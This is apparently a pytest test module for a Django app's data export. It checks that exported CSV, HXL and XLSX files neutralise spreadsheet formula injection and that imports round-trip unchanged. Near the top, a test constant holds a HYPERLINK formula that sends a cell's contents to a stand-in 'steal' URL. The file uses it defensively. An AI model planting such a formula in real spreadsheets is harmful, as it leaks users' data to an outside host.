"""Exports never hand a spreadsheet program a formula: text that begins like one is marked (CSV, HXL) or
stored as text (XLSX), numbers stay numbers, and an export imports back to the same values."""

from __future__ import annotations

import csv
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from corridor.exchange.exporting import ExportFilters
from corridor.exchange.services import export_records, import_file
from corridor.geo.models import Place
from corridor.timeline.models import Event

LINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Details")'
FORMULA_LIKE = {
    "title": LINK,
    "description": "+381 11 123 4567",
    "note": "-- checked twice",
}


def exported(user, kind: str, format: str, tmp_path: Path) -> Path:  # type: ignore[no-untyped-def]
    path = tmp_path / f"{kind}.{format}"
    with path.open("wb") as stream:
        export_records(user=user, kind=kind, format=format, stream=stream, filters=ExportFilters())
    return path


@pytest.fixture
def formula_event(make_event, skopje) -> Event:  # type: ignore[no-untyped-def]
    return make_event(skopje, "public", **FORMULA_LIKE)


@pytest.mark.django_db
@pytest.mark.parametrize("format", ["csv", "hxl"])
def test_a_csv_export_marks_text_that_a_spreadsheet_would_run_as_a_formula(
    format, formula_event, tmp_path
) -> None:
    # Given an event whose title, description and note begin like formulas
    # When it is exported as CSV
    rows = {row["uid"]: row for row in csv.DictReader(exported(None, "events", format, tmp_path).open())}

    # Then each of those cells begins with the text mark, and nothing else changed
    row = rows[str(formula_event.uid)]
    assert {name: row[name] for name in FORMULA_LIKE} == {
        name: "'" + value for name, value in FORMULA_LIKE.items()
    }
    assert row["date_start"] == "2016-03-09"


@pytest.mark.django_db
def test_a_csv_export_marks_every_character_that_starts_a_formula(make_event, skopje, tmp_path) -> None:
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"]
    events = [make_event(skopje, "public", title=title) for title in starts]

    rows = {
        row["uid"]: row for row in csv.DictReader(exported(None, "events", "csv", tmp_path).open(newline=""))
    }

    assert [rows[str(event.uid)]["title"] for event in events] == ["'" + title for title in starts]


@pytest.mark.django_db
def test_an_xlsx_export_stores_formula_like_text_as_text_never_as_a_formula(formula_event, tmp_path) -> None:
    path = exported(None, "events", "xlsx", tmp_path)

    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(path).active
    titles = [(cell.value, cell.data_type) for cell in sheet["G"] if cell.value == LINK]

    assert "<f>" not in sheet_xml
    assert titles == [(LINK, "s")]


@pytest.mark.django_db
@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_negative_numbers_are_exported_as_numbers_unmarked(format, make_user, cpc, tmp_path) -> None:
    admin = make_user("exchange.admin", superuser=True)
    Place.objects.create(
        slug="test-west-of-greenwich", name="West of Greenwich", kind="region", owner=cpc,
        classification="public", latitude=Decimal("51.4"), longitude=Decimal("-5.5"),
    )  # fmt: skip

    path = exported(admin, "places", format, tmp_path)

    if format == "csv":
        rows = {row["slug"]: row for row in csv.DictReader(path.open())}
        assert rows["test-west-of-greenwich"]["longitude"] == "-5.50000"
    else:
        sheet = list(load_workbook(path, read_only=True).active.values)
        header = list(sheet[0])
        row = next(row for row in sheet if row[header.index("slug")] == "test-west-of-greenwich")
        assert row[header.index("longitude")] == -5.5


@pytest.mark.django_db
@pytest.mark.parametrize("format", ["hxl", "csv", "xlsx"])
def test_an_event_whose_title_starts_with_equals_imports_back_unchanged(
    format, formula_event, make_user, tmp_path, database_snapshot
) -> None:
    # Given an export holding an event whose title is a formula
    admin = make_user("exchange.admin", superuser=True)
    path = exported(admin, "events", format, tmp_path)
    before = database_snapshot()

    # When it is imported back
    report = import_file(actor=admin, source=path, kind="events")

    # Then nothing changed: the mark the export added is taken away again, exactly
    assert (report.errors, report.created, report.updated) == ([], 0, 0)
    assert database_snapshot() == before
    formula_event.refresh_from_db()
    assert (formula_event.title, formula_event.description, formula_event.note) == tuple(
        FORMULA_LIKE.values()
    )
